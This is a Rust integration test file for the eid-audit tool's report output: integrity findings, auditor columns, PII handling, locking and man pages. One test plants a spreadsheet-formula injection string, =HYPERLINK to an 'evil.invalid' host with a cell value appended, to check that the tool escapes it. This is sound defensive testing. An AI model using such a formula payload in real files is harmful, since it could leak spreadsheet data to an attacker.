//! The report as an audit record: loud integrity failures, the columns
//! auditors query, a self-describing run (run.json, summary.txt), JSON Lines,
//! spreadsheets, and a report folder that is replaced whole or not at all.

use super::{eid_audit, root, stderr, stdout};
use serde_json::Value;
use std::path::Path;
use std::process::{Command, Stdio};

fn report(args: &[&str]) -> std::process::Output {
    let mut all = vec!["report"];
    all.extend_from_slice(args);
    eid_audit(&all)
}

/// The rows of a CSV file as maps from column to cell.
pub(crate) fn rows(path: &Path) -> Vec<std::collections::BTreeMap<String, String>> {
    let mut rdr = csv::Reader::from_path(path).unwrap();
    let header = rdr.headers().unwrap().clone();
    rdr.records()
        .map(|r| {
            let r = r.unwrap();
            header
                .iter()
                .zip(r.iter())
                .map(|(h, v)| (h.to_owned(), v.to_owned()))
                .collect()
        })
        .collect()
}

pub(crate) fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn bundled() -> Vec<String> {
    super::testdata()
}

#[test]
fn a_member_that_fails_its_check_is_an_error_finding_and_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let o = report(&[
        "testdata/hostile/video-declares-1gb.zip",
        "-o",
        out.to_str().unwrap(),
        "--hash-members",
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    let text = stdout(&o);
    assert!(
        text.contains("integrity    1 archive with a member that fails its check\n"),
        "{text}"
    );
    // The terminal counts; summary.txt names, and the terminal says where.
    let pointer = format!(
        "named        in {}: the integrity failures (the first 20)\n",
        out.join("summary.txt").display()
    );
    assert!(text.contains(&pointer), "{text}");
    let summary = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    assert!(
        summary.contains(
            "\nintegrity failures\n  testdata/hostile/video-declares-1gb.zip: MemberCorrupt video.mp4: \
             the member fails its integrity check: corrupt member: inflates to 4096 bytes"
        ),
        "{summary}"
    );
    assert!(
        summary.contains("findings     1 error, 0 warnings, 0 info\n"),
        "{summary}"
    );
    let findings = rows(&out.join("findings.csv"));
    let corrupt: Vec<_> = findings
        .iter()
        .filter(|f| f["code"] == "MemberCorrupt")
        .collect();
    assert_eq!(corrupt.len(), 1);
    assert_eq!(
        (
            corrupt[0]["severity"].as_str(),
            corrupt[0]["subject"].as_str()
        ),
        ("error", "video.mp4")
    );
    let members = rows(&out.join("members.csv"));
    let video = members.iter().find(|m| m["member"] == "video.mp4").unwrap();
    assert_eq!(video["sha256"], "");
    assert!(video["sha256_error"].contains("smaller than"), "{video:?}");
    let archive = &rows(&out.join("archives.csv"))[0];
    assert_eq!(archive["max_severity"], "error");
}

#[test]
fn verify_media_finds_a_broken_image_without_crops() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let plain = report(&[
        "testdata/hostile/truncated-jpeg.zip",
        "-o",
        out.to_str().unwrap(),
    ]);
    assert!(
        !std::fs::read_to_string(out.join("findings.csv"))
            .unwrap()
            .contains("truncated JPEG")
    );
    assert_eq!(plain.status.code(), Some(0), "{}", stderr(&plain));
    let o = report(&[
        "testdata/hostile/truncated-jpeg.zip",
        "-o",
        out.to_str().unwrap(),
        "-f",
        "--verify-media",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let findings = rows(&out.join("findings.csv"));
    let broken: Vec<_> = findings
        .iter()
        .filter(|f| f["message"].contains("truncated JPEG"))
        .collect();
    assert_eq!(broken.len(), 1);
    assert_eq!(broken[0]["code"], "UndecodableMedia");
    let archive = &rows(&out.join("archives.csv"))[0];
    assert_eq!(archive["findings"], findings.len().to_string());
    assert_eq!(
        archive["max_severity"], "warning",
        "derived from the final list"
    );
    // inspect has the option too
    let i = eid_audit(&[
        "inspect",
        "testdata/hostile/truncated-jpeg.zip",
        "--verify-media",
        "--format",
        "json",
    ]);
    assert!(stdout(&i).contains("truncated JPEG"));
}

#[test]
fn checks_are_booleans_with_a_result_column() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    report(&[
        "testdata/hostile/json-wrong-types.zip",
        "testdata/accepted.zip",
        "-o",
        out.to_str().unwrap(),
    ]);
    let checks = rows(&out.join("checks.csv"));
    let pairs: std::collections::BTreeSet<(String, String)> = checks
        .iter()
        .map(|c| (c["valid"].clone(), c["result"].clone()))
        .collect();
    assert_eq!(
        pairs,
        [("", "unreadable"), ("true", "valid")]
            .iter()
            .map(|(a, b)| ((*a).to_owned(), (*b).to_owned()))
            .collect()
    );
}

#[test]
fn the_columns_auditors_query_are_there() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let files = bundled();
    let mut args: Vec<&str> = files.iter().map(String::as_str).collect();
    args.extend(["-o", out.to_str().unwrap()]);
    report(&args);
    let archives = rows(&out.join("archives.csv"));
    let by = |name: &str| {
        archives
            .iter()
            .find(|r| r["archive"] == format!("testdata/{name}"))
            .unwrap()
    };
    let over = by("agent-override.zip");
    assert_eq!(over["review_decision"], "accepted");
    assert_eq!(over["reviewer"], "agent-0042");
    assert_eq!(over["review_date"], "2021-06-09");
    assert_eq!(over["automatic_status"], "inconclusive");
    assert_eq!(
        over["automatic_reasons"],
        "SimilarityNotHigh/medium; FeatureNotFound/OVI 2"
    );
    assert_eq!(over["reasons"], "");
    let rejected = by("agent-rejected.zip");
    assert_eq!(
        rejected["rejection_types"],
        "Document.NotLegible; Environment.CaptchaNotRead"
    );
    let accepted = by("accepted.zip");
    assert_eq!(accepted["date_of_expiry"], "2030-10-05");
    assert_eq!(accepted["verification_date_source"], "updatedAt");
    assert_eq!(
        by("inconclusive.zip")["similarity"],
        "veryLow",
        "one spelling"
    );
    let beside = by("process-beside.zip");
    assert!(
        beside["process_record_file"].ends_with("process-beside.json"),
        "{beside:?}"
    );
    let record = std::fs::read(root().join("testdata/process-beside.json")).unwrap();
    assert_eq!(beside["process_record_sha256"], sha256_hex(&record));
}

#[test]
fn error_rows_invent_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    report(&[
        "testdata/hostile/not-a-zip.zip",
        "-o",
        out.to_str().unwrap(),
    ]);
    let row = &rows(&out.join("archives.csv"))[0];
    assert_eq!(
        row["process_id"], "",
        "no file stem passed off as a process id"
    );
    assert_eq!(row["findings"], "", "not zero: unknown");
    assert_eq!(row["error_code"], "NotAZip");
    assert!(
        row["error"].starts_with("not a zip archive: it begins like a PDF document"),
        "{row:?}"
    );
    assert!(
        !row["error"].contains("testdata/"),
        "the path is in its own column"
    );
}

#[test]
fn run_json_and_summary_txt_describe_the_run() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let files = bundled();
    let mut args: Vec<&str> = files.iter().map(String::as_str).collect();
    args.extend(["-o", out.to_str().unwrap(), "--crops", "--jsonl", "-j", "2"]);
    let o = report(&args);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let run: Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("run.json")).unwrap()).unwrap();
    assert_eq!(run["tool"]["name"], "eid-audit");
    assert_eq!(run["tool"]["version"], env!("CARGO_PKG_VERSION"));
    assert_eq!(run["host"]["jobs"], 2);
    assert_eq!(run["policy"]["name"], "default");
    assert_eq!(run["policy"]["digest"].as_str().unwrap().len(), 16);
    assert_eq!(run["policy"]["rules"]["minimumAge"], 18);
    assert_eq!(run["policy"]["rules"]["digest"], run["policy"]["digest"]);
    assert_eq!(run["limits"]["max_members"], 10_000);
    assert_eq!(run["pii"], "omit");
    assert_eq!(run["images"]["written"], true);
    assert!(
        run["images"]["note"]
            .as_str()
            .unwrap()
            .contains("personal data")
    );
    assert_eq!(run["summary"]["archives"], 13);
    assert_eq!(run["summary"]["disagreements"], 1);
    assert!(
        run["commandLine"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a == "--crops")
    );
    assert!(run["started"].as_str().unwrap().ends_with('Z'));
    // Every file the run wrote, with a hash that matches it now.
    let outputs = run["outputs"].as_array().unwrap();
    let names: Vec<&str> = outputs
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    for expected in ["archives.csv", "members.csv", "audits.jsonl", "summary.txt"] {
        assert!(names.contains(&expected), "{expected}: {names:?}");
    }
    assert!(
        names
            .iter()
            .any(|n| n.starts_with("crops/") && n.ends_with("front.jpeg"))
    );
    for f in outputs {
        let bytes = std::fs::read(out.join(f["path"].as_str().unwrap())).unwrap();
        assert_eq!(f["sha256"], sha256_hex(&bytes), "{}", f["path"]);
    }
    let summary = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    assert!(summary.starts_with("archives     13 ("), "{summary}");
    assert!(
        summary.contains("disagreements\n  testdata/recorded-accepted-contradicted.zip  recorded accepted, recomputed rejected\n"),
        "{summary}"
    );
    // audits.jsonl: one line per input, personal data omitted.
    let jsonl = std::fs::read_to_string(out.join("audits.jsonl")).unwrap();
    assert_eq!(jsonl.lines().count(), 13);
    for line in jsonl.lines() {
        let v: Value = serde_json::from_str(line).unwrap();
        assert_eq!(v["pii"], "omit");
        assert!(v["document"].get("firstName").is_none());
    }
    assert!(!jsonl.contains("TESTER EXAMPLE"));
}

#[test]
fn jsonl_holds_error_rows_too() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    report(&[
        "testdata/accepted.zip",
        "testdata/hostile/empty.zip",
        "-o",
        out.to_str().unwrap(),
        "--jsonl",
    ]);
    let lines: Vec<Value> = std::fs::read_to_string(out.join("audits.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2);
    let error = lines.iter().find(|l| l.get("error").is_some()).unwrap();
    assert_eq!(error["error"]["code"], "Empty");
    assert_eq!(error["archive"]["path"], "testdata/hostile/empty.zip");
}

#[test]
fn force_replaces_the_whole_report_and_a_second_run_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let first = report(&[
        "testdata/accepted.zip",
        "-o",
        out.to_str().unwrap(),
        "--crops",
    ]);
    assert_eq!(first.status.code(), Some(0), "{}", stderr(&first));
    assert!(out.join("crops").is_dir());
    let again = report(&["testdata/accepted.zip", "-o", out.to_str().unwrap()]);
    assert_eq!(again.status.code(), Some(2));
    assert!(
        stderr(&again).contains("a report is already here; use --force"),
        "{}",
        stderr(&again)
    );
    let forced = report(&[
        "testdata/inconclusive.zip",
        "-o",
        out.to_str().unwrap(),
        "-f",
    ]);
    assert_eq!(forced.status.code(), Some(0), "{}", stderr(&forced));
    assert!(
        !out.join("crops").exists(),
        "stale crops of the earlier run are gone"
    );
    let entries: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        entries.iter().all(|e| !e.starts_with('.')),
        "nothing hidden left: {entries:?}"
    );

    // A live run's lock (held by the kernel, here by this process) keeps
    // another out.
    let held = std::fs::File::create(out.join(".eid-audit.lock")).unwrap();
    held.lock().unwrap();
    let locked = report(&["testdata/accepted.zip", "-o", out.to_str().unwrap(), "-f"]);
    assert_eq!(locked.status.code(), Some(2));
    assert!(
        stderr(&locked).contains("another eid-audit run is writing this report folder"),
        "{}",
        stderr(&locked)
    );
    drop(held);
    // A lock file no process holds is taken over, whatever pid it names:
    // a dead one, or the new run's own (pids are reused in containers).
    for pid in ["999999999".to_owned(), std::process::id().to_string()] {
        std::fs::write(out.join(".eid-audit.lock"), format!("{pid}\n")).unwrap();
        let after = report(&["testdata/accepted.zip", "-o", out.to_str().unwrap(), "-f"]);
        assert_eq!(after.status.code(), Some(0), "{}", stderr(&after));
        assert!(!out.join(".eid-audit.lock").exists());
    }
}

/// A run stopped by `signal` half-way keeps the previous report and
/// leaves nothing of its own.
#[cfg(unix)]
fn a_signal_keeps_the_previous_report(signal: &str) {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("r");
    report(&["testdata/accepted.zip", "-o", out.to_str().unwrap()]);
    let before = std::fs::read(out.join("archives.csv")).unwrap();
    let input = tmp.path().join("many");
    std::fs::create_dir_all(&input).unwrap();
    let bytes = std::fs::read(root().join("testdata/nested-upper-case.zip")).unwrap();
    for i in 0..2000 {
        std::fs::write(input.join(format!("{i:05}.zip")), &bytes).unwrap();
    }
    let child = Command::new(env!("CARGO_BIN_EXE_eid-audit"))
        .args([
            "report",
            input.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
            "-f",
            "-j",
            "1",
            "--crops",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while !out.join(".eid-audit-partial/crops").exists() && started.elapsed().as_secs() < 30 {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let sent = Command::new("kill")
        .args([signal, &child.id().to_string()])
        .status()
        .unwrap();
    assert!(sent.success());
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(130), "{}", stderr(&o));
    assert_eq!(
        stderr(&o).trim_end(),
        "eid-audit: interrupted; the previous report is kept"
    );
    assert_eq!(std::fs::read(out.join("archives.csv")).unwrap(), before);
    assert!(!out.join(".eid-audit-partial").exists());
    assert!(!out.join(".eid-audit.lock").exists());
}

#[cfg(unix)]
#[test]
fn an_interrupt_keeps_the_previous_report() {
    a_signal_keeps_the_previous_report("-INT");
}

/// What schedulers and `kill` send (SIGTERM) is an interrupt too.
#[cfg(unix)]
#[test]
fn a_termination_keeps_the_previous_report_too() {
    a_signal_keeps_the_previous_report("-TERM");
}

#[test]
fn an_empty_input_is_an_error_unless_a_shard() {
    let dir = tempfile::tempdir().unwrap();
    let empty = dir.path().join("nothing-here");
    std::fs::create_dir_all(&empty).unwrap();
    let out = dir.path().join("r");
    let o = report(&[empty.to_str().unwrap(), "-o", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("no archives found in"),
        "{}",
        stderr(&o)
    );
    let shard = report(&[
        empty.to_str().unwrap(),
        "-o",
        out.to_str().unwrap(),
        "--shard",
        "1/4",
    ]);
    assert_eq!(shard.status.code(), Some(0), "{}", stderr(&shard));
    assert_eq!(
        std::fs::read_to_string(out.join("archives.csv"))
            .unwrap()
            .lines()
            .count(),
        1
    );
}

#[test]
fn usage_mistakes_are_said_in_one_line() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("a-file");
    std::fs::write(&file, b"x").unwrap();
    let o = report(&["testdata/accepted.zip", "-o", file.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    // An --out that names a file says so (issue 20), in one line.
    assert!(
        stderr(&o).contains("is a file, not a folder"),
        "{}",
        stderr(&o)
    );
    assert_eq!(stderr(&o).lines().count(), 1);
    let key = dir.path().join("key");
    std::fs::write(&key, b"0123456789abcdef0123").unwrap();
    let o = report(&[
        "testdata/accepted.zip",
        "-o",
        dir.path().join("r").to_str().unwrap(),
        "--pii-key-file",
        key.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("--pii-key-file is only for --pii hmac"),
        "{}",
        stderr(&o)
    );
    let zero = report(&["testdata/accepted.zip", "-o", "x", "-j", "0"]);
    assert_eq!(zero.status.code(), Some(2));
}

#[test]
fn excel_output_is_safe_in_spreadsheets() {
    let dir = tempfile::tempdir().unwrap();
    let zip = dir.path().join("formula.zip");
    let member = "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Open\")";
    let mut members = eid_testkit::Case::accepted().members();
    members.push((member.into(), b"not evidence".to_vec()));
    std::fs::write(&zip, eid_testkit::zip_members(&members)).unwrap();
    let out = dir.path().join("r");
    let o = report(&[
        zip.to_str().unwrap(),
        "-o",
        out.to_str().unwrap(),
        "--excel",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let members_csv = std::fs::read(out.join("members.csv")).unwrap();
    assert!(
        members_csv.starts_with("\u{feff}".as_bytes()),
        "a byte-order mark"
    );
    let text = String::from_utf8(members_csv).unwrap();
    assert!(text.contains("\"'=HYPERLINK("), "{text}");
    assert!(!text.contains(",\"=HYPERLINK("), "{text}");
    assert!(text.contains(",0x"), "CRC-32 kept as text: {text}");
    let findings = std::fs::read_to_string(out.join("findings.csv")).unwrap();
    assert!(findings.contains("'=HYPERLINK("), "{findings}");
}

#[test]
fn a_pseudonym_finds_one_person_in_an_hmac_report() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("key");
    std::fs::write(&key, b"a key of at least sixteen bytes\n").unwrap();
    let out = dir.path().join("r");
    report(&[
        "testdata/accepted.zip",
        "-o",
        out.to_str().unwrap(),
        "--pii",
        "hmac",
        "--pii-key-file",
        key.to_str().unwrap(),
    ]);
    let row = &rows(&out.join("archives.csv"))[0];
    let p = eid_audit(&[
        "pseudonym",
        "--field",
        "documentNumber",
        " x00000001 ",
        "--pii-key-file",
        key.to_str().unwrap(),
    ]);
    assert_eq!(p.status.code(), Some(0), "{}", stderr(&p));
    assert_eq!(stdout(&p).trim_end(), row["document_number"]);
    let name = eid_audit(&[
        "pseudonym",
        "--field",
        "firstName",
        "ALEX SAMPLE",
        "--pii-key-file",
        key.to_str().unwrap(),
    ]);
    assert_eq!(stdout(&name).trim_end(), row["first_name"]);
    let bad = eid_audit(&[
        "pseudonym",
        "--field",
        "shoeSize",
        "42",
        "--pii-key-file",
        key.to_str().unwrap(),
    ]);
    assert_eq!(bad.status.code(), Some(2));
    // The same key from the variable, a trailing line break and all, gives
    // the same pseudonym as the file.
    let from_env = Command::new(env!("CARGO_BIN_EXE_eid-audit"))
        .args(["pseudonym", "--field", "documentNumber", "X00000001"])
        .env("EID_AUDIT_PII_KEY", "a key of at least sixteen bytes\n")
        .output()
        .unwrap();
    assert_eq!(from_env.status.code(), Some(0), "{}", stderr(&from_env));
    assert_eq!(stdout(&from_env).trim_end(), row["document_number"]);
    // A key file that never ends is refused, not read until memory runs out.
    #[cfg(unix)]
    {
        let zero = eid_audit(&[
            "pseudonym",
            "--field",
            "documentNumber",
            "X00000001",
            "--pii-key-file",
            "/dev/zero",
        ]);
        assert_eq!(zero.status.code(), Some(2));
        assert!(
            stderr(&zero).contains("larger than 65536 bytes: not a key"),
            "{}",
            stderr(&zero)
        );
    }
}

#[test]
fn inspect_follows_the_personal_data_mode() {
    let omitted = eid_audit(&["inspect", "testdata/accepted.zip", "--format", "json"]);
    let text = stdout(&omitted);
    assert!(
        !text.contains("ALEX SAMPLE")
            && !text.contains("X00000001")
            && !text.contains("1990-04-29"),
        "{text}"
    );
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(v["pii"], "omit");
    let full = stdout(&eid_audit(&[
        "inspect",
        "testdata/accepted.zip",
        "--format",
        "json",
        "--pii",
        "full",
    ]));
    assert!(full.contains("ALEX SAMPLE") && full.contains("X00000001"));
}

/// What bash completes after `words`, the last one being completed, with
/// the script `eid-audit completions bash` prints loaded as a shell loads it.
fn bash_completes(words: &[&str]) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("eid-audit.bash");
    let o = eid_audit(&["completions", "bash"]);
    assert_eq!(o.status.code(), Some(0));
    std::fs::write(&script, &o.stdout).unwrap();
    let line = words.join(" ");
    let driver = format!(
        "source {script}; COMP_WORDS=({words}); COMP_CWORD={cword}; \
         COMP_LINE='{line}'; COMP_POINT=${{#COMP_LINE}}; \
         $(complete -p eid-audit | sed 's/.*-F \\([^ ]*\\) .*/\\1/') eid-audit '{cur}' '{prev}'; \
         printf '%s\\n' \"${{COMPREPLY[@]}}\"",
        script = script.display(),
        words = words
            .iter()
            .map(|w| format!("'{w}'"))
            .collect::<Vec<_>>()
            .join(" "),
        cword = words.len() - 1,
        cur = words[words.len() - 1],
        prev = words[words.len() - 2],
    );
    let o = Command::new("bash")
        .args(["--norc", "-c", &driver])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8(o.stdout)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect()
}

#[test]
fn bash_completes_subcommands_and_their_options() {
    assert!(bash_completes(&["eid-audit", "rep"]).contains(&"report".to_owned()));
    // clap's script never completed a subcommand's options for a binary
    // with a hyphen in its name (clap-rs/clap#6421): it does now.
    assert_eq!(
        bash_completes(&["eid-audit", "report", "--fail-o"]),
        ["--fail-on"]
    );
    assert_eq!(bash_completes(&["eid-audit", "merge", "--fo"]), ["--force"]);
    let values = bash_completes(&["eid-audit", "report", "--fail-on", ""]);
    assert_eq!(values, ["disagreement", "error"]);
}

#[test]
fn every_subcommand_has_its_manual_page() {
    let man = eid_audit(&["man"]);
    let top = stdout(&man);
    assert!(top.contains(".TH eid-audit 1"), "{top}");
    assert!(top.contains("eid\\-audit\\-report(1)"), "{top}");
    let report = stdout(&eid_audit(&["man", "report"]));
    assert!(report.contains(".TH eid-audit-report 1"), "{report}");
    assert!(report.contains("fail\\-on"), "{report}");
    let dir = tempfile::tempdir().unwrap();
    let o = eid_audit(&["man", "--out", dir.path().to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let mut pages: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    pages.sort();
    assert_eq!(
        pages,
        [
            "eid-audit-completions.1",
            "eid-audit-crops.1",
            "eid-audit-inspect.1",
            "eid-audit-man.1",
            "eid-audit-merge.1",
            "eid-audit-pack.1",
            "eid-audit-pseudonym.1",
            "eid-audit-report.1",
            "eid-audit.1",
        ]
    );
    // Every page the top page names exists.
    for sub in [
        "inspect",
        "crops",
        "report",
        "merge",
        "pack",
        "pseudonym",
        "completions",
        "man",
    ] {
        assert!(top.contains(&format!("eid\\-audit\\-{sub}(1)")), "{sub}");
    }
    // A page already there is never replaced.
    std::fs::write(dir.path().join("eid-audit.1"), "mine").unwrap();
    let o = eid_audit(&["man", "--out", dir.path().to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        std::fs::read(dir.path().join("eid-audit.1")).unwrap(),
        b"mine"
    );
    let o = eid_audit(&["man", "nosuch"]);
    assert_eq!(o.status.code(), Some(2));
    let help = eid_audit(&["report", "--help"]);
    assert!(stdout(&help).contains("Examples:"));
}

/// The fenced blocks of one language between the README's query markers.
pub(crate) fn readme_blocks(lang: &str) -> Vec<String> {
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    let begin = readme.find("<!-- queries:begin -->").unwrap();
    let end = readme.find("<!-- queries:end -->").unwrap();
    let mut blocks = Vec::new();
    let mut rest = &readme[begin..end];
    let fence = format!("```{lang}\n");
    while let Some(i) = rest.find(&fence) {
        let body = &rest[i + fence.len()..];
        let j = body.find("```").unwrap();
        blocks.push(body[..j].to_owned());
        rest = &body[j + 3..];
    }
    blocks
}

/// True when `python3` can import these modules; a missing tool skips the
/// test, unless EID_AUDIT_REQUIRE_TOOLS is set (CI sets it).
pub(crate) fn python_has(modules: &[&str]) -> bool {
    let ok = Command::new("python3")
        .arg("-c")
        .arg(format!("import {}", modules.join(", ")))
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        assert!(
            std::env::var_os("EID_AUDIT_REQUIRE_TOOLS").is_none(),
            "python3 with {modules:?} is required (pip install duckdb pandas pyarrow)"
        );
        eprintln!("skipped: python3 with {modules:?} is not installed");
    }
    ok
}

#[test]
fn the_readme_queries_answer_the_auditors_questions_on_the_bundled_report() {
    if !python_has(&["duckdb", "pandas"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let files = bundled();
    let mut args: Vec<&str> = files.iter().map(String::as_str).collect();
    let out = dir.path().join("report");
    args.extend(["-o", out.to_str().unwrap()]);
    // As the README says the bundled report of its queries was made.
    args.extend(["--sample", "2", "--seed", "readme"]);
    args.extend(["--retention-years", "5", "--as-of", "2026-06-10"]);
    assert_eq!(report(&args).status.code(), Some(1));
    let sql = readme_blocks("sql");
    assert_eq!(sql.len(), 8);
    let mut answers = String::new();
    for query in &sql {
        let o = Command::new("python3")
            .args([
                "-c",
                "import duckdb, sys; print(duckdb.sql(sys.argv[1]).fetchall())",
                query,
            ])
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert!(o.status.success(), "{query}\n{}", stderr(&o));
        answers.push_str(query.lines().next().unwrap());
        answers.push('\n');
        answers.push_str(&stdout(&o));
    }
    insta::assert_snapshot!(answers);
    let python = readme_blocks("python");
    assert_eq!(python.len(), 1);
    let o = Command::new("python3")
        .args(["-c", &python[0]])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let text = stdout(&o);
    for expected in [
        "testdata/recorded-accepted-contradicted.zip",
        "agent-0042    2",
        "testdata/agent-accepted-expired.zip",
        "FeatureNotFound/OVI 1",
    ] {
        assert!(text.contains(expected), "{expected}: {text}");
    }
}
